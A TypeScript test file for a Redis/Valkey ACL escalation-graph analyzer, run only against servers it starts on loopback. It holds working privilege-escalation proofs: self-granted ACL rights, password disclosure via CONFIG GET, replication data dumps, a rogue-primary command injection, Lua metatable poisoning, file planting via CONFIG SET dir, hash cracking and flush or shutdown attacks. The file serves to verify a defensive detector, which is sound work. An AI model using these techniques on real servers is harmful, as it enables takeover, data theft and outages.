/**
 * The escalation graph against real servers: a user who holds exactly what an edge asks for does the thing, on servers
 * that this test started on loopback, and the graph says yes where the server let it happen and no where it refused.
 * Nothing here goes further than to show that the door is open.
 */
import { createHash } from 'node:crypto';
import { existsSync, writeFileSync } from 'node:fs';
import { connect, createServer, type Server as Listener, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ESCALATION_EDGES,
  findEscalations,
  parseUserLine,
  tableFromCommandReply,
  type EscalationFacts,
  type Escalations,
} from '../../src/acl/index.ts';
import {
  forEachServer,
  openConnection,
  SERVER_IDS,
  startServer,
  talk,
  type Connection,
  type Reply,
  type RunningServer,
  type Server,
} from '../servers/index.ts';

const ROOT = 'the-password-of-default';
const REPLICATION = 'the-password-of-the-primary';
const VALUE = 'card-4111-1111';
const WAIT_MS = 5_000;

/** A running server with something worth stealing, and an administrator on it. */
interface World {
  readonly instance: RunningServer;
  readonly admin: Connection;
  /** Another connection of the user who is judged. */
  readonly login: () => Promise<Connection>;
  readonly server: Server;
}

interface Proof {
  readonly edge: string;
  /** The rules of the limited user: no more than the edge needs. */
  readonly rules: string;
  /** Where it needs another server than the common one. */
  readonly on?: 'own' | 'cluster';
  readonly conf?: string;
  readonly aclfile?: string;
  /** Only the first step is run. */
  readonly partial?: true;
  /** Does the limited user get what the edge promises? */
  readonly run: (user: Connection, world: World) => Promise<boolean>;
}

const PROOFS: readonly Proof[] = [
  {
    edge: 'esc-acl-setuser',
    rules: '+acl|setuser',
    run: async (user) => {
      await user.send(['ACL', 'SETUSER', 'eve', '~*', '+@all']);
      return ok(await user.send(['SET', 'proof:acl', '1']));
    },
  },
  {
    edge: 'esc-config-set-requirepass',
    rules: '+config|set',
    run: async (user, world) => {
      const set = await user.send(['CONFIG', 'SET', 'requirepass', 'stolen']);
      const asDefault = await openConnection(world.instance.port);
      const login = await asDefault.send(['AUTH', 'stolen']);
      const whoami = await asDefault.send(['ACL', 'WHOAMI']);
      if (ok(set)) await asDefault.send(['CONFIG', 'SET', 'requirepass', ROOT]);
      asDefault.close();
      return ok(login) && whoami === 'default';
    },
  },
  {
    edge: 'esc-config-get',
    rules: '+config|get',
    run: async (user, world) => {
      const shown = await user.send(['CONFIG', 'GET', 'masterauth']);
      const requirepass = await user.send(['CONFIG', 'GET', 'requirepass']);
      const password = Array.isArray(requirepass) ? String(requirepass[1]) : '';
      const [login] = await talk(world.instance.port, [['AUTH', password]]);
      return JSON.stringify(shown).includes(REPLICATION) && ok(login);
    },
  },
  {
    edge: 'esc-acl-list',
    rules: '+acl|list',
    run: async (user) => JSON.stringify(await user.send(['ACL', 'LIST'])).includes(sha256('hunter2')),
  },
  {
    edge: 'esc-acl-list',
    rules: '+acl|getuser',
    run: async (user) =>
      JSON.stringify(await user.send(['ACL', 'GETUSER', 'weak'])).includes(sha256('hunter2')),
  },
  { edge: 'esc-psync-exfil', rules: '+psync', run: (_, world) => streams(world, 'PSYNC ? -1') },
  { edge: 'esc-psync-exfil', rules: '+sync', run: (_, world) => streams(world, 'SYNC') },
  {
    edge: 'esc-monitor',
    rules: '+monitor',
    run: async (user, world) => {
      if (!ok(await user.send(['MONITOR']))) return false;
      await world.admin.send(['SET', 'other:watched', VALUE]);
      return textOf(await user.read()).includes(VALUE);
    },
  },
  {
    edge: 'esc-slowlog',
    rules: '+slowlog|get',
    run: async (user) => JSON.stringify(await user.send(['SLOWLOG', 'GET', '128'])).includes(VALUE),
  },
  {
    edge: 'esc-commandlog',
    rules: '+commandlog|get',
    run: async (user) =>
      JSON.stringify(await user.send(['COMMANDLOG', 'GET', '128', 'slow'])).includes(VALUE),
  },
  {
    edge: 'esc-slowlog-secrets',
    rules: '+slowlog|get',
    run: async (user, world) => {
      await world.admin.send(['CONFIG', 'SET', 'masterauth', REPLICATION]);
      return JSON.stringify(await user.send(['SLOWLOG', 'GET', '3'])).includes(REPLICATION);
    },
  },
  {
    edge: 'esc-sort-get',
    rules: '~app:* +sort',
    run: async (user, world) => {
      await world.admin.send(['RPUSH', 'app:list', 'secret']);
      return JSON.stringify(await user.send(['SORT', 'app:list', 'BY', 'nosort', 'GET', 'other:*'])).includes(
        VALUE,
      );
    },
  },
  {
    edge: 'esc-xreadgroup',
    rules: '~s* ~S* +xreadgroup',
    run: async (user, world) => {
      await world.admin.send(['XADD', 'other:stream', '1-1', 'f', VALUE]);
      await world.admin.send(['XGROUP', 'CREATE', 'other:stream', 'g', '0']);
      const argv = ['XREADGROUP', 'COUNT', '1', 'GROUP', 'g', 'STREAMS', 'STREAMS', 'other:stream', '>'];
      return JSON.stringify(await user.send(argv)).includes(VALUE);
    },
  },
  {
    edge: 'esc-georadius',
    rules: '~app:* +georadius',
    run: async (user, world) => {
      await world.admin.send(['GEOADD', 'app:geo', '0', '0', 'm']);
      const argv = ['GEORADIUS', 'app:geo', '0', '0', '1', 'm', 'STORE', 'app:x', 'STORE', 'other:geo'];
      await user.send(argv);
      return (await world.admin.send(['EXISTS', 'other:geo'])) === 1;
    },
  },
  {
    edge: 'esc-sort-store',
    rules: '~b* +sort',
    run: async (user, world) => {
      await world.admin.send(['RPUSH', 'bag', '1']);
      await user.send(['SORT', 'bag', 'STORE', 'by', 'STORE', 'other:sorted']);
      return (await world.admin.send(['EXISTS', 'other:sorted'])) === 1;
    },
  },
  {
    edge: 'esc-names',
    rules: '~app:* +keys',
    run: async (user) => JSON.stringify(await user.send(['KEYS', '*'])).includes('other:secret'),
  },
  {
    edge: 'esc-names',
    rules: '~app:* +scan',
    run: async (user) => JSON.stringify(await user.send(['SCAN', '0', 'COUNT', '999'])).includes('other:'),
  },
  {
    edge: 'esc-names',
    rules: '~none:* +randomkey',
    run: async (user) => typeof (await user.send(['RANDOMKEY'])) === 'string',
  },
  {
    edge: 'esc-tracking',
    rules: '~app:* +hello +client|tracking',
    run: async (user, world) => {
      await user.send(['HELLO', '3']);
      if (!ok(await user.send(['CLIENT', 'TRACKING', 'ON', 'BCAST']))) return false;
      await world.admin.send(['SET', 'other:tracked', '1']);
      return JSON.stringify(await user.read()).includes('other:tracked');
    },
  },
  {
    edge: 'esc-keyspace-events',
    rules: '~app:* &__key* +psubscribe',
    run: async (user, world) => {
      const subscribed = await user.send(['PSUBSCRIBE', '__key*']);
      if (!Array.isArray(subscribed)) return false;
      await world.admin.send(['SET', 'other:event', '1']);
      return JSON.stringify([await user.read(), await user.read()]).includes('other:event');
    },
  },
  {
    edge: 'esc-acl-log',
    rules: '+acl|log',
    run: async (user, world) => {
      await talk(world.instance.port, [
        ['AUTH', 'weak', 'hunter2'],
        ['GET', 'other:refused'],
      ]);
      return JSON.stringify(await user.send(['ACL', 'LOG'])).includes('other:refused');
    },
  },
  {
    edge: 'esc-surroundings',
    rules: '+client|list',
    run: async (user) => textOf(await user.send(['CLIENT', 'LIST'])).includes('user=default'),
  },
  {
    edge: 'esc-flush',
    rules: '~app:* +swapdb',
    run: async (user, world) => {
      const swapped = ok(await user.send(['SWAPDB', '0', '1']));
      const gone = (await world.admin.send(['GET', 'other:secret'])) === null;
      await world.admin.send(['SWAPDB', '0', '1']);
      return swapped && gone;
    },
  },
  {
    edge: 'esc-flush',
    rules: '~app:* +flushall',
    on: 'own',
    run: async (user, world) =>
      ok(await user.send(['FLUSHALL'])) && (await world.admin.send(['DBSIZE'])) === 0,
  },
  {
    edge: 'esc-dos-flush',
    rules: '~app:* +flushdb',
    on: 'own',
    run: async (user, world) =>
      ok(await user.send(['FLUSHDB'])) && (await world.admin.send(['DBSIZE'])) === 0,
  },
  {
    edge: 'esc-migrate-ssrf',
    rules: '~app:* +set +migrate',
    run: async (user) => {
      await user.send(['SET', 'app:leaves', VALUE]);
      return withListener('+OK\r\n', async (port, heard) => {
        await user.send(['MIGRATE', '127.0.0.1', String(port), 'app:leaves', '0', '1000', 'COPY']);
        return heard().includes(VALUE);
      });
    },
  },
  {
    edge: 'esc-replicaof-network',
    rules: '+replicaof',
    run: (user, world) =>
      withListener('+OK\r\n', async (port, heard) => {
        await user.send(['REPLICAOF', '127.0.0.1', String(port)]);
        const seen = await until(() => heard().includes('PING'));
        await world.admin.send(['REPLICAOF', 'NO', 'ONE']);
        return seen;
      }),
  },
  {
    edge: 'esc-dos-client-kill',
    rules: '+client|kill',
    run: async (user, world) => {
      const other = await world.login();
      const killed = await user.send(['CLIENT', 'KILL', 'USER', 'eve', 'SKIPME', 'yes']);
      const cut = await other.send(['PING']).then(
        () => false,
        () => true,
      );
      return Number(killed) >= 1 && cut;
    },
  },
  {
    edge: 'esc-script-flush',
    rules: '+script|flush',
    run: async (user, world) => {
      const sha = textOf(await world.admin.send(['SCRIPT', 'LOAD', 'return 1']));
      await user.send(['SCRIPT', 'FLUSH']);
      return JSON.stringify(await world.admin.send(['SCRIPT', 'EXISTS', sha])) === '[0]';
    },
  },
  {
    edge: 'esc-script-flush',
    rules: '+function|flush',
    run: async (user, world) => {
      await world.admin.send(['FUNCTION', 'LOAD', library('wiped', "return 'x'")]);
      return (
        ok(await user.send(['FUNCTION', 'FLUSH'])) &&
        JSON.stringify(await world.admin.send(['FUNCTION', 'LIST'])) === '[]'
      );
    },
  },
  {
    edge: 'esc-dos-script-loop',
    rules: '+eval',
    run: async (user, world) => {
      const ended = user.send(['EVAL', 'while true do end', '0']).catch(() => null);
      const held = await until(async () => isError(await world.admin.send(['PING']), /^BUSY/));
      await world.admin.send(['SCRIPT', 'KILL']);
      await ended;
      return held;
    },
  },
  {
    edge: 'esc-dos-script-kill',
    rules: '+script|kill',
    run: async (user, world) => {
      const ended = world.admin.send(['EVAL', 'while true do end', '0']);
      const killed = await until(async () => ok(await user.send(['SCRIPT', 'KILL'])));
      return killed && isError(await ended, /Script killed|killed by user/i);
    },
  },
  {
    edge: 'esc-dos-config-set',
    rules: '+config|set',
    run: async (user, world) => {
      await user.send(['CONFIG', 'SET', 'maxmemory', '1']);
      const refused = isError(await world.admin.send(['SET', 'other:refused', '1']), /^OOM/);
      await world.admin.send(['CONFIG', 'SET', 'maxmemory', '0']);
      return refused;
    },
  },
  {
    edge: 'esc-dos-acl-deluser',
    rules: '+acl|deluser',
    run: async (user, world) => {
      await world.admin.send(['ACL', 'SETUSER', 'gone', 'on', '>gone']);
      return (await user.send(['ACL', 'DELUSER', 'gone'])) === 1;
    },
  },
  {
    edge: 'esc-dos-save',
    rules: '+save',
    run: async (user, world) => {
      await until(
        async () => !textOf(await world.admin.send(['INFO', 'persistence'])).includes('bgsave_in_progress:1'),
      );
      return ok(await user.send(['SAVE']));
    },
  },
  {
    edge: 'esc-shutdown',
    rules: '+shutdown',
    on: 'own',
    run: async (user, world) => {
      await user.send(['SHUTDOWN', 'NOSAVE']).catch(() => null);
      return Promise.race([world.instance.exited.then(() => true), pause(WAIT_MS).then(() => false)]);
    },
  },
  {
    edge: 'esc-dos-replicaof',
    rules: '+replicaof',
    on: 'own',
    run: (user, world) =>
      withRoguePrimary([], async (port) => {
        await user.send(['REPLICAOF', '127.0.0.1', String(port)]);
        return until(async () => (await world.admin.send(['DBSIZE'])) === 0);
      }),
  },
  {
    edge: 'esc-replicaof',
    rules: '+replicaof',
    on: 'own',
    run: (user) =>
      withRoguePrimary(['ACL', 'SETUSER', 'eve', '~*', '+@all'], async (port) => {
        await user.send(['REPLICAOF', '127.0.0.1', String(port)]);
        return until(async () => ok(await user.send(['CONFIG', 'SET', 'maxmemory', '0'])));
      }),
  },
  {
    edge: 'esc-failover',
    rules: '+psync +replconf +failover',
    on: 'own',
    run: (user, world) =>
      withRoguePrimary(['ACL', 'SETUSER', 'eve', '~*', '+@all'], async (port) => {
        const replica = await falseReplica(world, port);
        await until(async () =>
          ok(await user.send(['FAILOVER', 'TO', '127.0.0.1', String(port), 'FORCE', 'TIMEOUT', '200'])),
        );
        const raised = await until(async () => ok(await user.send(['CONFIG', 'SET', 'maxmemory', '0'])));
        replica.destroy();
        return raised;
      }),
  },
  {
    edge: 'esc-function-poison',
    rules: '+function|load',
    run: async (user, world) => {
      await world.admin.send(['FUNCTION', 'LOAD', library('shared', "return 'as it should be'")]);
      await user.send([
        'FUNCTION',
        'LOAD',
        'REPLACE',
        library('shared', "return redis.call('GET', 'other:secret')"),
      ]);
      return (await world.admin.send(['FCALL', 'shared', '0'])) === VALUE;
    },
  },
  {
    edge: 'esc-lua-global-6.0',
    rules: '+eval',
    on: 'own',
    run: async (user, world) => {
      await user.send([
        'EVAL',
        "local call = redis.call; redis.call = function() return call('GET', 'other:secret') end",
        '0',
      ]);
      return (await world.admin.send(['EVAL', "return redis.call('PING')", '0'])) === VALUE;
    },
  },
  {
    edge: 'esc-lua-metatable',
    rules: '+eval',
    on: 'own',
    run: async (user, world) => {
      const plant =
        "getmetatable('').__index = function() return function() return redis.call('GET', 'other:secret') end end";
      await user.send(['EVAL', plant, '0']);
      return (await world.admin.send(['EVAL', "return ('a'):upper()", '0'])) === VALUE;
    },
  },
  {
    edge: 'esc-config-set-dir',
    rules: '+config|set +save',
    on: 'own',
    run: writesFile,
  },
  {
    edge: 'esc-module-load',
    rules: '+module|load',
    // The file is not there: that the server looked for it is all that is asked.
    run: async (user) => isError(await user.send(['MODULE', 'LOAD', '/nonexistent.so']), /Error loading/),
  },
  {
    edge: 'esc-dos-debug',
    rules: '+debug',
    run: async (user) => ok(await user.send(['DEBUG', 'SLEEP', '0'])),
  },
  {
    edge: 'esc-debug',
    rules: '+debug',
    run: async (user) => textOf(await user.send(['DEBUG', 'OBJECT', 'other:secret'])).includes('encoding:'),
  },
  {
    edge: 'esc-default-open',
    rules: '',
    on: 'own',
    conf: 'requirepass ""',
    run: async (_, world) => {
      const [whoami, read] = await talk(world.instance.port, [
        ['ACL', 'WHOAMI'],
        ['GET', 'other:secret'],
      ]);
      return whoami === 'default' && read === VALUE;
    },
  },
  {
    edge: 'esc-acl-load',
    rules: '',
    on: 'own',
    aclfile: `user default on >${ROOT} ~* +@all\nuser eve on >eve +acl|load\n`,
    run: async (user, world) => {
      writeFileSync(
        join(world.instance.dir, 'users.acl'),
        `user default on >${ROOT} ~* +@all\nuser eve on >eve ~* +@all\n`,
      );
      // Some versions end the connection at ACL LOAD.
      await user.send(['ACL', 'LOAD']).catch(() => null);
      const again = await world.login();
      return (await again.send(['GET', 'other:secret'])) === VALUE;
    },
  },
  {
    edge: 'esc-getkeysinslot',
    rules: '~app:* +cluster|getkeysinslot',
    on: 'cluster',
    run: async (user, world) => {
      const slot = textOf(await world.admin.send(['CLUSTER', 'KEYSLOT', 'other:secret']));
      return JSON.stringify(await user.send(['CLUSTER', 'GETKEYSINSLOT', slot, '9'])).includes(
        'other:secret',
      );
    },
  },
  {
    edge: 'esc-cluster-reset',
    rules: '+cluster|delslots',
    on: 'cluster',
    run: async (user) => ok(await user.send(['CLUSTER', 'DELSLOTS', '1'])),
  },
  {
    edge: 'esc-cluster-replicate',
    rules: '+cluster|meet',
    on: 'cluster',
    partial: true,
    run: async (user) => ok(await user.send(['CLUSTER', 'MEET', '127.0.0.1', '1'])),
  },
  {
    edge: 'esc-replicaof',
    rules: '+replicaof',
    on: 'cluster',
    run: async (user) => ok(await user.send(['REPLICAOF', '127.0.0.1', '1'])),
  },
];

/** Edges that the common proofs do not show: a step that needs no server, or one that nothing here can show safely. */
const NOT_RUN = [
  'esc-file-write',
  'esc-code-on-host',
  'esc-masterauth',
  'esc-sort-ro',
  'esc-restore',
  'esc-dos-failover',
];

describe('the escalation graph', () => {
  it('has a proof, or a reason for none, for every edge', () => {
    const proved = new Set(PROOFS.map(({ edge }) => edge));
    const elsewhere = ['esc-requirepass', 'esc-hash-guess', 'esc-stronger-user', 'esc-default-unrestricted'];
    const left = ESCALATION_EDGES.filter(
      ({ id, from, to, advisory }) =>
        !proved.has(id) &&
        !NOT_RUN.includes(id) &&
        !elsewhere.includes(id) &&
        id !== `esc-${from}-${to}` &&
        (advisory === undefined || to !== 'code-on-host'),
    );
    expect(left.map(({ id }) => id)).toEqual([]);
  });

  forEachServer([...SERVER_IDS, 'redis-8.0.6'], (server) => {
    const six = server.version.startsWith('6.');
    let common: World;
    let cluster: World;
    beforeAll(async () => {
      common = await start(server, '');
      cluster = await start(server, 'cluster-enabled yes\n');
    });
    afterAll(async () => {
      for (const world of [common, cluster]) await world.instance.stop();
    });

    it.each(PROOFS.map((proof) => [proof.edge, proof.rules, proof] as const))(
      'agrees about %s for %s',
      async (id, rules, proof) => {
        const own = proof.on === 'own' ? await start(server, proof.conf ?? '', proof.aclfile) : undefined;
        const world = own ?? (proof.on === 'cluster' ? cluster : common);
        try {
          const accepted = proof.aclfile !== undefined || (await makeUser(world, rules));
          const said = accepted ? await stepsOf(world, id) : [];
          const user = accepted ? await world.login() : undefined;
          const shown = user !== undefined && (await proof.run(user, world));
          user?.close();
          const [step] = said;
          // A distributor's build may have the fix under an older number, and the graph says so: only there may it
          // name a way that is closed.
          const hedged = step?.edge.advisory !== undefined && step.assumes.length > 0;
          if (shown || !hedged)
            expect({ edge: id, open: step !== undefined }).toEqual({ edge: id, open: shown });
          if (shown && step !== undefined && proof.partial === undefined)
            expect(isSeen(step.edge.seen, server)).toBe(true);
        } finally {
          await own?.instance.stop();
        }
      },
    );

    it.skipIf(six)('agrees about what the enable- settings open', async () => {
      const conf = ['debug-command', 'module-command', 'protected-configs'].map(
        (name) => `enable-${name} yes\n`,
      );
      const world = await start(server, conf.join(''));
      for (const id of ['esc-dos-debug', 'esc-debug', 'esc-module-load', 'esc-config-set-dir']) {
        const proof = PROOFS.find(({ edge }) => edge === id);
        if (proof === undefined) throw new Error(id);
        await makeUser(world, proof.rules);
        const user = await world.login();
        expect(await proof.run(user, world), id).toBe(true);
        expect(await stepsOf(world, id), id).toHaveLength(1);
        user.close();
      }
      await world.instance.stop();
    });

    it('names a way to full control that works from its first step to its last', async () => {
      await makeUser(common, '+config|get');
      const { fullControl } = await escalations(common);
      expect(fullControl?.certainty).toBe('certain');
      expect(fullControl?.steps.map(({ edge }) => edge.id)).toEqual([
        'esc-config-get',
        'esc-requirepass',
        'esc-default-unrestricted',
      ]);
      const user = await common.login();
      const reply = await user.send(['CONFIG', 'GET', 'requirepass']);
      const password = Array.isArray(reply) ? String(reply[1]) : '';
      expect(await user.send(['AUTH', password]), 'the password that CONFIG GET shows').toBe('OK');
      expect(await user.send(['ACL', 'SETUSER', 'eve', '~*', '+@all'])).toBe('OK');
      user.close();
    });

    it('guesses a weak password from its hash, and says that this is possible', async () => {
      await common.admin.send(['ACL', 'SETUSER', 'boss', 'reset', 'on', '>letmein', '~*', '+@all']);
      await makeUser(common, '+acl|list');
      const { fullControl } = await escalations(common);
      expect(fullControl?.certainty).toBe('possible');
      expect(fullControl?.steps.map(({ edge }) => edge.id)).toEqual([
        'esc-acl-list',
        'esc-hash-guess',
        'esc-stronger-user',
      ]);
      const user = await common.login();
      const list = JSON.stringify(await user.send(['ACL', 'LIST']));
      const guess = ['123456', 'password', 'letmein'].find((word) => list.includes(sha256(word)));
      expect(await user.send(['AUTH', 'boss', String(guess)])).toBe('OK');
      user.close();
    });

    it('finds nothing for a user who is bound to its keys, and none of it works', async () => {
      await makeUser(common, '~app:* +get +set +ping');
      const found = await escalations(common);
      expect(found.powers).toEqual([]);
      expect(found.fullControl).toBeUndefined();
      const user = await common.login();
      for (const argv of [
        ['ACL', 'SETUSER', 'eve', '+@all'],
        ['CONFIG', 'GET', '*'],
        ['PSYNC', '?', '-1'],
        ['KEYS', '*'],
        ['MONITOR'],
        ['GET', 'other:secret'],
      ])
        expect(isError(await user.send(argv), /^NOPERM/), argv.join(' ')).toBe(true);
      user.close();
    });
  });
});

async function start(server: Server, conf: string, aclfile?: string): Promise<World> {
  const open = conf.includes('requirepass ""');
  const instance = await startServer({
    server,
    conf: [
      ...(aclfile !== undefined || open ? [] : [`requirepass ${ROOT}`]),
      `masterauth ${REPLICATION}`,
      'slowlog-log-slower-than 0',
      'notify-keyspace-events KEA',
      'repl-diskless-sync-delay 0',
      'lua-time-limit 50',
      'save ""',
      conf,
    ].join('\n'),
    ...(aclfile !== undefined && { aclfile }),
  });
  const admin = await openConnection(instance.port);
  if (!open) await admin.send(['AUTH', ROOT]);
  if (conf.includes('cluster-enabled')) {
    const slots = Array.from({ length: 16_384 }, (_, slot) => String(slot));
    await admin.send(['CLUSTER', 'ADDSLOTS', ...slots]);
    await until(async () => textOf(await admin.send(['CLUSTER', 'INFO'])).includes('cluster_state:ok'));
  }
  expect(await admin.send(['SET', 'other:secret', VALUE])).toBe('OK');
  await admin.send(['ACL', 'SETUSER', 'weak', 'on', '>hunter2', '~app:*', '+get']);
  const login = async (): Promise<Connection> => {
    const user = await openConnection(instance.port);
    expect(await user.send(['AUTH', 'eve', 'eve'])).toBe('OK');
    return user;
  };
  return { instance, admin, login, server };
}

/** False where the version does not know a command or a rule: then there is nothing to hold. */
async function makeUser({ admin, server }: World, rules: string): Promise<boolean> {
  const words = wordsFor(rules, server);
  const made = await admin.send(['ACL', 'SETUSER', 'eve', 'reset', 'on', '>eve', ...words]);
  return ok(made);
}

/** 6.0 has no channel rules, and 6.2 lets new users hear all. */
function wordsFor(rules: string, server: Server): readonly string[] {
  const words = rules.split(' ').filter((word) => word !== '');
  if (server.version.startsWith('6.0')) return words.filter((word) => !word.startsWith('&'));
  return ['resetchannels', ...words];
}

/** What the graph says of `eve` as the server has her. */
async function escalations(world: World): Promise<Escalations> {
  const { admin, server } = world;
  const table = tableFromCommandReply(await admin.send(['COMMAND']), server);
  const lines = (await admin.send(['ACL', 'LIST'])) as readonly string[];
  const read = (name: string) => {
    const line = lines.find((text) => text.startsWith(`user ${name} `)) ?? '';
    const { user } = parseUserLine(line, table);
    if (user === undefined) throw new Error(line);
    return user;
  };
  const eve = read('eve');
  const settings = new Map<string, string>();
  for (const name of [
    'enable-debug-command',
    'enable-module-command',
    'enable-protected-configs',
    'requirepass',
    'masterauth',
    'notify-keyspace-events',
    'sanitize-dump-payload',
    'cluster-enabled',
  ]) {
    const reply = await admin.send(['CONFIG', 'GET', name]);
    if (Array.isArray(reply) && reply.length === 2) settings.set(name, String(reply[1]));
  }
  const facts: EscalationFacts = {
    defaultUser: read('default'),
    clusterMode: settings.get('cluster-enabled') === 'yes' ? 'on' : 'off',
    settings,
  };
  return findEscalations(eve, table, facts);
}

async function stepsOf(world: World, id: string): Promise<Escalations['steps']> {
  return (await escalations(world)).steps.filter(({ edge }) => edge.id === id);
}

/** The edge names this version: patch levels of one branch count as one. */
function isSeen(seen: readonly string[], { product, version }: Server): boolean {
  const branch = `${product === 'redis' ? 'Redis' : 'Valkey'} ${version.split('.').slice(0, 2).join('.')}.`;
  return seen.some((name) => name.startsWith(branch));
}

async function writesFile(user: Connection, { instance }: World): Promise<boolean> {
  await user.send(['CONFIG', 'SET', 'dbfilename', 'planted']);
  await user.send(['CONFIG', 'SET', 'dir', instance.dir]);
  await user.send(['SAVE']);
  return existsSync(join(instance.dir, 'planted'));
}

/** Reads what follows a replication command until the known value is in it. */
async function streams({ instance }: World, command: string): Promise<boolean> {
  const socket = connect(instance.port, '127.0.0.1');
  let heard = '';
  socket.on('data', (chunk: Buffer) => (heard += chunk.toString('latin1')));
  socket.on('error', () => undefined);
  // With a reply pending the server refuses to begin.
  socket.write('AUTH eve eve\r\n');
  await until(() => heard.includes('+OK'));
  socket.write(`${command}\r\n`);
  const seen = await until(() => heard.includes(VALUE) || heard.includes('NOPERM'));
  socket.destroy();
  return seen && heard.includes(VALUE);
}

/** Speaks as a replica that listens on `port` and has caught up. */
async function falseReplica({ instance }: World, port: number): Promise<Socket> {
  const socket = connect(instance.port, '127.0.0.1');
  let text = '';
  socket.on('data', (chunk: Buffer) => {
    text += chunk.toString('latin1');
  });
  socket.on('error', () => undefined);
  for (const line of ['AUTH eve eve', `REPLCONF listening-port ${port}`, 'PSYNC ? -1']) {
    const before = text;
    socket.write(`${line}\r\n`);
    // With a reply pending the server refuses to begin.
    await until(() => text !== before);
  }
  await pause(300);
  socket.write('REPLCONF ACK 0\r\n');
  await pause(100);
  return socket;
}

/** A listener that answers everything alike and remembers what it heard. */
async function withListener(
  answer: string,
  body: (port: number, heard: () => string) => Promise<boolean>,
): Promise<boolean> {
  let text = '';
  return withServer(
    (socket) => {
      socket.on('data', (chunk: Buffer) => {
        text += chunk.toString('latin1');
        socket.write(answer.repeat(chunk.toString('latin1').split('*').length - 1));
      });
    },
    (port) => body(port, () => text),
  );
}

/** An empty snapshot: the magic, the end, and no checksum. */
const EMPTY_SNAPSHOT = Buffer.from('REDIS0006\xff\0\0\0\0\0\0\0\0', 'latin1');

/** A false primary: it agrees to everything, hands out an empty data set and then one command. */
function withRoguePrimary(
  command: readonly string[],
  body: (port: number) => Promise<boolean>,
): Promise<boolean> {
  return withServer((socket) => {
    socket.on('data', (chunk: Buffer) => {
      const text = chunk.toString('latin1');
      if (!text.includes('PSYNC')) {
        if (!text.includes('ACK')) socket.write('+OK\r\n'.repeat(text.split('*').length - 1));
        return;
      }
      const resumed = text.includes('FAILOVER');
      if (resumed) socket.write('+CONTINUE\r\n');
      else {
        socket.write(`+FULLRESYNC ${'0'.repeat(40)} 0\r\n$${EMPTY_SNAPSHOT.length}\r\n`);
        socket.write(EMPTY_SNAPSHOT);
      }
      const words = command.map((word) => `$${word.length}\r\n${word}\r\n`).join('');
      if (command.length > 0) socket.write(`*${command.length}\r\n${words}`);
    });
  }, body);
}

async function withServer(
  serve: (socket: Socket) => void,
  body: (port: number) => Promise<boolean>,
): Promise<boolean> {
  const sockets = new Set<Socket>();
  const listener: Listener = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    serve(socket);
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const address = listener.address();
  try {
    return await body(typeof address === 'object' && address !== null ? address.port : 0);
  } finally {
    for (const socket of sockets) socket.destroy();
    listener.close();
  }
}

async function until(holds: () => boolean | Promise<boolean>): Promise<boolean> {
  const deadline = Date.now() + WAIT_MS;
  while (Date.now() < deadline) {
    if (await holds()) return true;
    await pause(20);
  }
  return false;
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

function library(name: string, body: string): string {
  return `#!lua name=${name}\nredis.register_function('${name}', function() ${body} end)`;
}

function ok(reply: Reply | undefined): boolean {
  return reply === 'OK';
}

function isError(reply: Reply | undefined, pattern: RegExp): boolean {
  return typeof reply === 'object' && reply !== null && 'error' in reply && pattern.test(reply.error);
}

function textOf(reply: Reply): string {
  return typeof reply === 'string' ? reply : JSON.stringify(reply);
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}
